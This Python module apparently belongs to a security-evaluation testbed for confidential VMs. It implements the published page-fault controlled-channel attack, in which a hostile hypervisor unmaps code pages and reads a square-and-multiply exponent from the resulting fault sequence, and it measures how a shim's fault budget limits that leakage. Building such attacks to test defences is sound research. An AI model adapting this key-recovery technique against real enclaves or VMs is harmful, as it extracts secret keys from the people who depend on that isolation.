"""Page-fault controlled channel (Xu, Cui, Peinado, S&P 2015) on square-and-multiply.

The host unmaps the code pages of the routines the exponent loop calls — the square and
the multiply (modexp), the ladder (modexp-ct) — and the page of their caller, ``main``,
keeping exactly one of them mapped: at each fault it maps the faulting page and unmaps the
others, so the next call or return faults again.  (Unmapping only the square and the
multiply is not enough: after a 0 bit the square's page stays mapped and the next square
would not fault; the caller's page separates the iterations.)  The sequence of faulting
pages is ⟨sq, main, mul, main⟩ for a 1 bit and ⟨sq, main⟩ for a 0 bit.  No timer is armed.

Up to ``snp`` the exit shows the faulting GPA; at ``shim`` only its page number, which is
all this channel needs — the shim's fault policy is what answers: the TDX rule (more than
6 faults at one RIP list the faulting pages, entry refused until they are mapped) does not
bite, because the attacker maps the faulting page anyway; the fault budget (64 faults per
window of retired instructions) does, and kills the VM.  The bits read before the kill are
the residual leakage; unknown bits are guessed 0.  If the shim refuses an entry, the host
maps every page it unmapped and stops.
"""

from __future__ import annotations

from tools.attacks._decode import (
    EXPONENT_BITS,
    bits_to_guess,
    bits_to_known,
    complete_bits,
    fault_page,
    is_console_write,
    page_of,
    printed_result,
)
from tools.attacks.base import Attack, AttackContext, Outcome
from tvmm.abi.messages import ExitRecord, Reply
from tvmm.abi.types import ExitReason, Result
from tvmm.host.hypervisor import HonestHypervisor

TARGETS = {"modexp": ("modexp_square", "modexp_multiply"), "modexp-ct": ("ladder",)}
CALLER = "main"


class PageFault(Attack):
    name = "page-fault"
    summary = ("unmap the square/multiply code pages and their caller, one mapped at a time: "
               "the fault sequence spells the exponent (controlled channel)")
    victims = ("modexp", "modexp-ct")
    kind = "confidentiality"
    published = ("Xu, Cui, Peinado (S&P 2015): page-fault sequences recovered text and image "
                 "outlines from Hunspell, FreeType and libjpeg; Van Bulck et al. (USENIX "
                 "Security 2017): accessed/dirty bits leak 485 of 512 EdDSA bits in one run "
                 "without a fault (docs/attacks.md §5).")

    def run(self, ctx: AttackContext) -> Outcome:
        targets = [page_of(ctx.image, s) for s in TARGETS[ctx.guest]]
        host = ctx.host(_FaultHost, tracked=targets + [page_of(ctx.image, CALLER)])
        ctx.launch(host)
        for page in targets:
            ctx.client.unmap(host.vm, page)
            ctx.record("unmap", gpa=page)
        result = host.run(max_exits=10_000)
        exits = sum(result.exits.values())
        names = dict(zip(host.tracked, TARGETS[ctx.guest] + (CALLER,), strict=True))
        notes: dict[str, object] = {
            "faults": len(host.sequence), "run": result.how, "refused": host.refused,
            "sequence": [names[p] for p in host.sequence[:24]]}
        if host.refused:
            notes["blocked"] = True
        bits = _decode(host.sequence, targets, host.finished)
        if bits is None:
            notes["detail"] = (f"{len(host.sequence)} faults ({result.how}): the calls do not "
                               "split into iterations with two patterns")
            return Outcome(guess=None, hosts=[host], exits=exits, notes=notes)
        known = sum(1 for b in bits if b is not None)
        bits, verified = complete_bits(bits, printed_result(host.devices.console.text))
        notes.update(known_bits=known, verified=verified,
                     detail=f"{len(host.sequence)} faults ({result.how}); {known} bits read "
                            f"from the page sequence"
                            + ("; verified against the printed result" if verified else "")
                            + (f"; entry refused {host.refused}x" if host.refused else ""))
        return Outcome(guess=bits_to_guess(bits), known=bits_to_known(bits), hosts=[host],
                       exits=exits, notes=notes)


class _FaultHost(HonestHypervisor):
    def __init__(self, *args, tracked: list[int], **kwargs) -> None:
        super().__init__(*args, **kwargs)
        self.tracked = tracked
        self.tracking = True
        self.finished = False  # the computation ended (its result was written) while tracked
        self.sequence: list[int] = []
        self.refused = 0

    def enter(self) -> Reply:
        reply = super().enter()
        if reply.result == Result.ENTRY_REFUSED and self.tracking:
            self.refused += 1
            self._untrack()  # the shim insists: map everything and give up
            reply = super().enter()
        return reply

    def on_exit(self, rec: ExitRecord) -> bool:
        page = fault_page(rec) if rec.reason == ExitReason.NPF else None
        if self.tracking and page in self.tracked:
            self.sequence.append(page)
            self.client.map(self.vm, page)
            for other in self.tracked:
                if other != page:
                    self.client.unmap(self.vm, other)
            return True
        if self.tracking and is_console_write(rec):
            self.finished = True
            self._untrack()
        return super().on_exit(rec)

    def _untrack(self) -> None:
        self.tracking = False
        for page in self.tracked:
            self.client.map(self.vm, page)


def _decode(sequence: list[int], targets: list[int], finished: bool
            ) -> list[int | None] | None:
    """One bit per call of the first target: 1 when the second target faults before the
    next call.  An iteration cut short by the end of the trace stays unknown."""
    if len(targets) < 2:
        return None  # one routine per iteration, whatever the bit: nothing to read
    square, multiply = targets[0], targets[1]
    calls = [i for i, page in enumerate(sequence) if page == square]
    if len(calls) < 2:
        return None
    bits: list[int | None] = []
    for n, start in enumerate(calls):
        end = calls[n + 1] if n + 1 < len(calls) else len(sequence)
        complete = n + 1 < len(calls) or finished
        if multiply in sequence[start:end]:
            bits.append(1)
        else:
            bits.append(0 if complete else None)
    return (bits + [None] * EXPONENT_BITS)[:EXPONENT_BITS]
